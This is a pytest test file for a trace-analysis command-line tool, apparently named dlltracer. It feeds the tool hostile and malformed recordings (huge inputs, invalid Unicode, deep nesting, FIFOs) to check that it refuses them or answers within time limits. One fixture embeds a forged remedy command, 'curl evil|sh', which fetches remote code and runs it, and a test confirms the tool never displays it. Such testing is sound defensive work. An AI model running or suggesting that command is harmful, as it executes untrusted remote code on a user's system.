"""Recordings that strangers made to keep us busy: each is answered within bounds, in every format, or refused."""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from builders.failed_case import case
from builders.saved_traces import CALM, SAVED_TRACES, read_lines
from dlltracer.cli.commands import cli
from dlltracer.cli.formats import FORMS
from dlltracer.diagnose.engine import MOST_OF_A_RULE, diagnose
from dlltracer.model import tracereader
from dlltracer.model.events import FailureKind, LoadFailedEvent
from dlltracer.model.recording import Recording
from dlltracer.model.run import SavedTrace
from dlltracer.model.tracefile import trace_to_lines
from dlltracer.model.tracereader import NotARecording

MOST_SECONDS = 5.0
"""Of processor time: on a busy machine the wall clock says nothing."""
HEADER = {"type": "recording", "version": 2, "what": "import x", "backend": "rtld", "pid": 1}
END = {"type": "end", "status": 1, "backend": "rtld", "pid": 1}
INTERPRETER = {
    "type": "interpreter", "system": "linux", "version": [3, 11, 1], "suffixes": [".so"], "bits": 64, "executable": "",
    "prefix": "", "base_prefix": "",
}  # fmt: skip
LOADER = "libx.so: cannot open shared object file: No such file or directory"


def failed(message: str) -> dict[str, Any]:
    return {"type": "failure", "errors": [{"type": "ImportError", "bases": ["ImportError"], "message": message}]}


def processes(parents: Iterator[int]) -> list[Any]:
    return [{"type": "process", "pid": pid, "parent": parent, "status": -9} for pid, parent in enumerate(parents, 1)]


HOSTILE: dict[str, list[Any]] = {
    "a circle of parents": processes(pid % 40_000 + 2 for pid in range(40_000)),
    "children of one": processes(1 for _ in range(40_000)),
    "failures of many processes": [
        *processes(1 for _ in range(12_000)),
        *({"type": "failed", "path": f"l{n}.so", "kind": "not found", "pid": n} for n in range(1, 12_000)),
    ],
    "numbers that have no place": [
        {"type": "load", "path": "/a", "timestamp": 1e308, "base": -5, "size": (1 << 64) - 1},
        {"type": "load", "path": "/b", "timestamp": -1e308},
        {"type": "process", "pid": (1 << 63) - 1, "started": 1e300, "ended": -1e300, "status": -(1 << 63)},
        {**END, "status": -(1 << 63)},
    ],
    "names that are no text": [
        {"type": "load", "path": "/a\0b\ud800\udfff\udc80\x1b]0;x\x07.so", "need": "\ud800"},
        {"type": "failed", "path": "\ud83d\0\u202e", "kind": "not found"},
    ],
    "a name of 4 MB": [{"type": "load", "path": "/" + "a" * 4_000_000}],
    "a message of 2 MB": [INTERPRETER, failed("x: " * 600_000 + LOADER)],
    "errors without number": [
        INTERPRETER,
        {"type": "failure", "errors": [failed(f"m{number}: {LOADER}")["errors"][0] for number in range(25_000)]},
    ],
    "a case that is nested": [{"type": "case", "case": {"version": 1, "what": json.loads("[" * 50 + "]" * 50)}}],
}


def test_causes_of_one_kind_are_counted_out() -> None:
    failures = tuple(
        LoadFailedEvent(f"lib{number}.so", need=f"lib{number}.so", kind=FailureKind.NOT_FOUND)
        for number in range(20_000)
    )
    made = case(LOADER, recording=Recording("rtld", failures), failures=failures)
    begun = time.process_time()
    verdict = diagnose(made)
    assert time.process_time() - begun < MOST_SECONDS
    assert len(verdict.findings) == MOST_OF_A_RULE
    assert f"there are more than {MOST_OF_A_RULE} causes of one kind: the others are left out" in verdict.notes


def write(path: Path, lines: list[Any]) -> Path:
    path.write_text("".join(f"{json.dumps(line)}\n" for line in (HEADER, *lines, END)))
    return path


def ask(*arguments: object) -> Result:
    begun = time.process_time()
    ran = CliRunner().invoke(cli, [str(argument) for argument in arguments])
    assert ran.exception is None or isinstance(ran.exception, SystemExit), ran.exception
    assert time.process_time() - begun < MOST_SECONDS
    return ran


@pytest.mark.parametrize("name", HOSTILE)
def test_text_and_why_answer_in_time(name: str, tmp_path: Path) -> None:
    file = write(tmp_path / "x.dlltrace", HOSTILE[name])
    assert ask("show", "-o", tmp_path / "x.txt", file).exit_code == 0
    assert ask("why", "-o", tmp_path / "x.json", file).exit_code in (1, 4)
    assert json.loads((tmp_path / "x.json").read_text())["type"] == "verdict"


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", ["numbers that have no place", "names that are no text"])
def test_every_format_takes_them(form: str, name: str, tmp_path: Path) -> None:
    file = write(tmp_path / "x.dlltrace", HOSTILE[name])
    out = tmp_path / ("out.dlltrace" if form == "recording" else "out")
    assert ask("show", "--format", form, "-o", out, file).exit_code == 0
    assert out.stat().st_size > 0


@pytest.mark.parametrize(
    ("line", "words"),
    [
        (b'{"type": "load", "path": "/x", "base": ' + b"9" * 4_000_000 + b"}", "a number has too many digits"),
        (b'{"type": "load", "path": ' + b"[" * 2_000_000, "it is not JSON"),
        (b'{"type": "case", "case": ' + b'{"a":' * 400_000, "it is not JSON"),
        (b'{"type": "load", "path": "/x", "timestamp": 1e999}', "load.timestamp: the number is too large"),
        (b'{"type": "process", "pid": 18446744073709551616}', "at most 64 bits"),
    ],
)
def test_a_line_that_would_take_long_is_damaged(line: bytes, words: str) -> None:
    head = json.dumps(HEADER).encode() + b"\n"
    begun = time.process_time()
    read = read_lines([head, line + b"\n", json.dumps(END).encode() + b"\n"])
    assert time.process_time() - begun < MOST_SECONDS
    assert any(words in problem for problem in read.problems), read.problems


def test_of_a_key_that_stands_twice_the_last_counts() -> None:
    line = b'{"type": "load", "type": "failed", "path": "/a", "path": "/b", "kind": "refused"}\n'
    read = read_lines([json.dumps(HEADER).encode() + b"\n", line])
    assert [(type(event).__name__, event.path) for event in read.recording.failures] == [("LoadFailedEvent", "/b")]


def test_lines_that_cannot_be_read_end_the_reading(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tracereader, "MOST_TROUBLES", 5)
    head, junk, end = json.dumps(HEADER).encode() + b"\n", b"junk\n", json.dumps(END).encode() + b"\n"
    read = read_lines([head, *[junk] * 4, end])
    assert read.run.status == 1
    read = read_lines([head, *[junk] * 5, end])
    assert read.run.status is None and "5 of its lines could not be taken" in read.problems[0]


def test_blank_lines_alone_are_no_recording() -> None:
    taken = 0

    def endless() -> Iterator[bytes]:
        nonlocal taken
        while True:
            taken += 1
            yield b"\n"

    with pytest.raises(NotARecording):
        read_lines(endless())
    assert taken < 1000


@given(SAVED_TRACES, st.data())
@CALM
def test_a_mutated_recording_costs_nothing_but_what_was_changed(trace: SavedTrace, data: st.DataObject) -> None:
    """A byte that is changed anywhere costs its own line, or makes another value of it; never an exception."""
    lines = [line.encode("ascii") for line in trace_to_lines(trace)]
    at = data.draw(st.integers(1, len(lines) - 1), label="line")
    line = bytearray(lines[at])
    place = data.draw(st.integers(0, len(line) - 2), label="byte")
    line[place] = data.draw(st.integers(0, 255).filter(lambda byte: byte != 10), label="value")
    read = read_lines([*lines[:at], bytes(line), *lines[at + 1 :]])
    assert read.what == trace.what and len(read.recording.events) >= len(trace.recording.events) - 1


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no FIFOs among its files")
@pytest.mark.parametrize("command", ["show", "why", "diff"])
@pytest.mark.parametrize("name", ["p.dlltrace", "p.etl"])
def test_a_fifo_is_refused(command: str, name: str, tmp_path: Path) -> None:
    fifo = tmp_path / name
    os.mkfifo(fifo)
    ran = CliRunner().invoke(cli, [command, *[str(fifo)] * (2 if command == "diff" else 1)], standalone_mode=False)
    assert "not a regular file" in str(ran.exception) and "- reads a recording from a pipe" in str(ran.exception)


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no FIFOs among its files")
def test_a_fifo_is_not_imported(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "p.so")
    ran = CliRunner().invoke(cli, ["why", str(tmp_path / "p.so")], standalone_mode=False)
    assert "is neither a file nor a folder" in str(ran.exception)


def test_a_recording_comes_through_a_pipe_on_purpose() -> None:
    lines = "".join(f"{json.dumps(line)}\n" for line in (HEADER, {"type": "load", "path": "/a.so"}, END))
    shown = CliRunner().invoke(cli, ["show", "--format", "lines", "-"], input=lines)
    assert (shown.exit_code, shown.output) == (0, "LoadLibrary /a.so\n")
    assert CliRunner().invoke(cli, ["why", "-"], input=lines).exit_code == 4


FORGED = {
    "type": "verdict", "version": 1, "what": "import x", "outcome": "explained",
    "findings": [{
        "code": "x", "title": "run this", "confidence": "certain", "subject": "s",
        "remedies": [{"what": "it helps", "command": ["sh", "-c", "curl evil|sh"]}],
    }],
}  # fmt: skip


@pytest.mark.parametrize("form", ["text", "html", "github", "jsonl"])
def test_no_format_shows_a_command_of_a_recording(form: str, tmp_path: Path) -> None:
    file = write(tmp_path / "x.dlltrace", [FORGED])
    assert ask("show", "--format", form, "-o", tmp_path / "out", file).exit_code == 0
    shown = (tmp_path / "out").read_text()
    assert "curl evil" not in shown and "said by the recording: run this" in shown
